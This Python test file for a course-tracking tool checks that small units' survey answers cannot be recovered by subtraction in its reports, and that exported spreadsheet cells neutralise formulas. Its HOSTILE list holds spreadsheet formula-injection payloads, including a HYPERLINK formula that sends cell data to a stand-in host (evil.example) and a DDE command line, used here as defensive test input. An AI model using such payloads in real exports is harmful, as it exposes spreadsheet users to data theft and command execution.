"""Evaluation results can't be worked out by subtraction, and report cells from people never turn into formulas."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from pptx import Presentation
from typer.testing import CliRunner

from resurskurs.backend.local import LocalBackend
from resurskurs.catalog.load import Catalog, load_catalog
from resurskurs.cli import app
from resurskurs.core.disclosure import MIN_ANSWERS, hidden_parts
from resurskurs.core.figures import DISTRICT, ProgressRow
from resurskurs.core.progress import Status
from resurskurs.demo.district import demo_district
from resurskurs.demo.plans import Plan, plan_progress
from resurskurs.district.roster import Person, Role
from resurskurs.gradebook.progress import evaluations
from resurskurs.gradebook.tables import EVALUATION, PEOPLE
from resurskurs.overview.district_page import district_view
from resurskurs.overview.report import csv_bytes, people_table, xlsx_bytes
from resurskurs.testing.content import player_content
from resurskurs.tracking.course_dir import CourseDir
from tests.test_overview import NOW, SLUG, district_in

SMALL = 3
"""Answers in the one unit under the threshold."""


@pytest.fixture(scope="module")
def catalog(tmp_path_factory: pytest.TempPathFactory) -> Catalog:
    loaded = load_catalog(player_content(tmp_path_factory.mktemp("content")))
    assert loaded.problems == []
    return loaded


@pytest.fixture(scope="module")
def people() -> list[Person]:
    return demo_district(staff=36, units=3, seed=5)


@pytest.fixture
def district(tmp_path: Path, gradebook_url: str, catalog: Catalog, people: list[Person]) -> str:
    """Three units: the first with 3 evaluation answers, the others with at least 5 each."""
    unit_of = {person.id: person.unit for person in people}
    small = sorted({person.unit for person in people if person.role is Role.STAFF})[0]
    plans: list[Plan] = []
    kept = 0
    for plan in plan_progress(people, catalog, seed=5, now=NOW):
        if plan.slug == SLUG and plan.answers.survey.likert and unit_of[plan.person_id] == small:
            kept += 1
            if kept > SMALL:
                continue
        plans.append(plan)
    district_in(gradebook_url, tmp_path, catalog, people, plans)
    answered = truth(gradebook_url)
    assert answered[small][0] == SMALL
    assert sorted(counts[0] for unit, counts in answered.items() if unit != small)[0] >= MIN_ANSWERS
    return gradebook_url


def truth(db_url: str) -> dict[str, tuple[int, ...]]:
    """Straight from the tables, per unit: people who answered, then for each statement the count at each step."""
    engine = sa.create_engine(db_url)
    joined = EVALUATION.join(PEOPLE, PEOPLE.c.id == EVALUATION.c.person_id)
    with engine.connect() as connection:
        people = connection.execute(
            sa.select(PEOPLE.c.unit, sa.func.count(sa.distinct(EVALUATION.c.person_id)))
            .select_from(joined)
            .where(EVALUATION.c.slug == SLUG)
            .group_by(PEOPLE.c.unit)
        ).all()
        values = connection.execute(
            sa.select(PEOPLE.c.unit, EVALUATION.c.item_id, EVALUATION.c.value, sa.func.count())
            .select_from(joined)
            .where(EVALUATION.c.slug == SLUG, EVALUATION.c.value.is_not(None))
            .group_by(PEOPLE.c.unit, EVALUATION.c.item_id, EVALUATION.c.value)
        ).all()
    engine.dispose()
    steps: dict[str, Counter[tuple[str, int]]] = {}
    for unit, item, value, n in values:
        steps.setdefault(unit, Counter())[item, int(value)] += int(n)
    keys = [(item, step) for item in sorted({item for _, item, _, _ in values}) for step in range(1, 6)]
    return {unit: (int(n), *(steps.get(unit, Counter())[key] for key in keys)) for unit, n in people}


def assert_nothing_recoverable(shown: dict[str, tuple[int, ...]], answered: dict[str, tuple[int, ...]]) -> None:
    """Total minus the units shown is nothing (a unit counts in the district from its first MIN_ANSWERS answers)
    or at least two units' worth with at least MIN_ANSWERS people: never one hidden unit's answers."""
    total = shown.pop(DISTRICT)
    hidden = sorted(set(answered) - set(shown))
    remainder = tuple(t - sum(column) for t, column in zip(total, zip(*shown.values(), strict=True), strict=True))
    assert hidden and all(answered[unit] != remainder for unit in hidden)
    assert not any(remainder) or (len(hidden) >= 2 and remainder[0] >= MIN_ANSWERS)


class DescribeTheRule:
    def it_hides_nothing_when_every_unit_has_enough_answers(self) -> None:
        assert hidden_parts({"A": (5,), "B": (12,)}) == frozenset()

    def it_hides_the_next_smallest_unit_beside_a_small_one(self) -> None:
        assert hidden_parts({"A": (3,), "B": (6,), "C": (9,), "D": (40,)}) == {"A", "B"}

    def it_keeps_hiding_until_the_hidden_units_hold_enough_answers_together(self) -> None:
        assert hidden_parts({"A": (1,), "B": (1,), "C": (2,), "D": (8,), "E": (9,)}) == {"A", "B", "C", "D"}

    def it_hides_a_second_unit_even_when_the_small_ones_reach_five_together_but_are_one(self) -> None:
        assert hidden_parts({"A": (4,), "B": (5,)}) == {"A", "B"}

    def it_counts_every_statement_so_a_unit_that_skipped_one_is_no_cover(self) -> None:
        parts = {"A": (3, 3), "B": (6, 0), "C": (7, 7), "D": (9, 9)}
        assert hidden_parts(parts) == {"A", "B", "C"}


class DescribeEveryOutputOfADistrictWithOneSmallUnit:
    def it_leaves_the_small_units_answers_out_of_reach_on_screen(
        self, district: str, catalog: Catalog, tmp_path: Path
    ) -> None:
        found = evaluations(district, catalog)
        shown = {
            group: (e.answered, *(n for item in sorted(e.likert, key=lambda i: i.item_id) for n in item.counts))
            for (group, slug), e in found.items()
            if slug == SLUG
        }
        answered = truth(district)
        assert_nothing_recoverable(shown, answered)
        team = Person("eva.ros", "Eva", "Ros", "eva.ros@example.org", "Resurs", "Resursteamet", Role.RESOURCE_TEAM)
        backend = LocalBackend(team, catalog, CourseDir(tmp_path / "exercises", district), tmp_path / "var")
        page = "".join(str(getattr(widget, "value", "")) for widget in district_view(catalog, backend, ""))
        evaluation_part = page[page.index("<h2>Utvärderingen</h2>") : page.index("<h2>Bildspel")]
        for unit in answered:
            assert (unit in evaluation_part) == ((unit, SLUG) in found)

    def it_leaves_them_out_of_reach_in_the_report(
        self, tmp_path: Path, district: str, catalog: Catalog, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("RESURSKURS_ROOT", str(catalog.root))
        monkeypatch.setenv("RESURSKURS_GRADEBOOK_URL", district)
        result = CliRunner().invoke(app, ["report", "--format", "xlsx", "-o", str(tmp_path / "r.xlsx")])
        assert result.exit_code == 0, result.output
        rows = list(load_workbook(tmp_path / "r.xlsx")["Utvärdering"].iter_rows(values_only=True))[1:]
        per_group: dict[str, list[tuple[object, ...]]] = {}
        for row in rows:
            per_group.setdefault(str(row[0]), []).append(row)
        answered = truth(district)
        statements = {item.statement: item.id for item in catalog.module(SLUG).course.survey.likert}
        shown = {}
        for group, group_rows in per_group.items():
            ordered = sorted(group_rows, key=lambda row: statements[str(row[2])])
            people = evaluations(district, catalog)[group, SLUG].answered
            shown[group] = (people, *(int(str(n)) for row in ordered for n in row[3:8]))
        assert_nothing_recoverable(shown, answered)

    def it_leaves_them_out_of_reach_in_the_units_decks(
        self, tmp_path: Path, district: str, catalog: Catalog, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("RESURSKURS_ROOT", str(catalog.root))
        monkeypatch.setenv("RESURSKURS_GRADEBOOK_URL", district)
        answered = truth(district)
        on_decks: dict[str, int] = {}
        for unit in answered:
            deck_file = tmp_path / "deck.pptx"
            result = CliRunner().invoke(app, ["slides", SLUG, "--unit", unit, "-o", str(deck_file)])
            assert result.exit_code == 0, result.output
            for slide in Presentation(str(deck_file)).slides:
                title = slide.shapes.title.text if slide.shapes.title is not None else ""
                said = re.match(r"Utvärdering: så tyckte ni \((\d+) svar\)", title)
                if said:
                    on_decks[unit] = int(said.group(1))
                    assert f"{said.group(1)} personer i {unit}" in slide.notes_slide.notes_text_frame.text
        total = evaluations(district, catalog)[DISTRICT, SLUG].answered
        hidden = set(answered) - set(on_decks)
        remainder = total - sum(on_decks.values())
        assert hidden and all(answered[unit][0] != remainder for unit in hidden)
        assert remainder == 0 or (len(hidden) >= 2 and remainder >= MIN_ANSWERS)


def person_row(name: str, team: str = "Blå", unit: str = "Förskolan Solen") -> ProgressRow:
    return ProgressRow("p1", name, unit, team, SLUG, Status.NOT_STARTED, 0, None, None, None, None, None)


HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


class DescribeReportCellsFromPeople:
    def it_writes_a_name_with_a_nul_character_to_excel(self) -> None:
        table = people_table([person_row("Anna\x00 Berg\x07")], {SLUG: "Prova på"})
        sheet = load_workbook(io.BytesIO(xlsx_bytes([table])))["Personer"]
        assert sheet["C2"].value == "Anna Berg"
        assert "\x00" not in csv_bytes(table).decode("utf-8-sig")

    @pytest.mark.parametrize("name", HOSTILE)
    def it_never_makes_a_formula_in_excel(self, name: str) -> None:
        table = people_table([person_row(name, team=name, unit=name)], {SLUG: "Prova på"})
        sheet = load_workbook(io.BytesIO(xlsx_bytes([table])))["Personer"]
        for cell in (sheet["A2"], sheet["B2"], sheet["C2"]):
            assert cell.data_type == "s" and cell.value == name and cell.quotePrefix

    @pytest.mark.parametrize("name", HOSTILE)
    def it_quotes_a_formula_away_in_csv(self, name: str) -> None:
        table = people_table([person_row(name, team=name, unit=name)], {SLUG: "Prova på"})
        rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"), newline=""), delimiter=";"))
        assert rows[1][:3] == ["'" + name] * 3

    def it_leaves_ordinary_names_and_numbers_as_they_are(self) -> None:
        table = people_table([person_row("Åsa Öberg-Lind")], {SLUG: "Prova på"})
        sheet = load_workbook(io.BytesIO(xlsx_bytes([table])))["Personer"]
        assert sheet["C2"].value == "Åsa Öberg-Lind" and not sheet["C2"].quotePrefix
        assert sheet["F2"].value == 0 and sheet["F2"].data_type == "n"
        rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"), newline=""), delimiter=";"))
        assert rows[1][2] == "Åsa Öberg-Lind" and rows[1][5] == "0"
